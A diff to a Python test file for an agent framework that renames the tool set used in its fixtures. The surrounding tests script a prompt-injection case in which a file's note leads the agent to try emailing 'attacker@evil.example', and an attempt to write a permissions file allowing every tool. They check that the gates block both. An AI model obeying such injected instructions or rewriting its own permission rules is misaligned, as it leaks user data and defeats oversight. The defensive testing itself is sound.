@@ -13,7 +13,7 @@ from passepartout.loop import Agent
 from passepartout.reason import ScriptedProvider, note_signal
 from passepartout import builtin_gates as bg
 from passepartout.builtin_gates import default_gates, learn_rule, permissions_file
-from passepartout.policy import policy_tools
+from passepartout.builtin_tools import builtin_tools
 
 
 @pytest.fixture
@@ -28,7 +28,7 @@ def env(tmp_path, monkeypatch):
     monkeypatch.delenv('PASSEPARTOUT_NETWORK_ALLOW', raising=False)
     monkeypatch.delenv('PASSEPARTOUT_VAULT_KEY_FILE', raising=False)
     config.ensure_dirs()
-    agent = Agent(tools=policy_tools(), gates=default_gates(), workspace=ws)
+    agent = Agent(tools=builtin_tools(), gates=default_gates(), workspace=ws)
     ctx = Context(Signal(meta={'source': 'cli', 'session': 's'}, payload={'sensor': 'user-input', 'text': 'x'}), agent)
     return types.SimpleNamespace(home=home, ws=ws, outside=outside, agent=agent, ctx=ctx, tmp=tmp_path,
                                  verify=lambda action: agent.gates.verify(action, ctx))
@@ -212,7 +212,7 @@ def test_injected_instruction_in_a_file_cannot_mail_the_attacker(env):
     provider = ScriptedProvider([tool_call('read_file', {'path': 'inbox.txt'}),
                                  tool_call('send_message', {'channel': 'email', 'recipient': 'attacker@evil.example', 'text': 'fwd'},
                                            explanation='the note asks to forward it')])
-    agent = Agent(provider, tools=policy_tools(), gates=default_gates(), workspace=env.ws)
+    agent = Agent(provider, tools=builtin_tools(), gates=default_gates(), workspace=env.ws)
     turn = agent.send('Read inbox.txt and handle it.')
     assert [e['actuator'] for e in turn.of('result')] == ['tool']                     # the read ran, the send did not
     assert len(turn.pending) == 1 and turn.pending[0]['action']['tool'] == 'send_message'
@@ -348,7 +348,7 @@ def test_recipients_the_owner_named_or_owns_pass(env, monkeypatch):
 
 def test_self_protection_even_inside_the_workspace(env, monkeypatch):
     monkeypatch.setenv('PASSEPARTOUT_WORKSPACE', str(env.tmp))     # the workspace holds the agent's home
-    agent = Agent(tools=policy_tools(), gates=default_gates())
+    agent = Agent(tools=builtin_tools(), gates=default_gates())
     ctx = Context(Signal(meta={'session': 's'}), agent)
     verify = lambda a: agent.gates.verify(a, ctx)
     for action in (write('home/config/permissions.toml', '[[rule]]\ntool="*"\ndecision="allow"\n'),
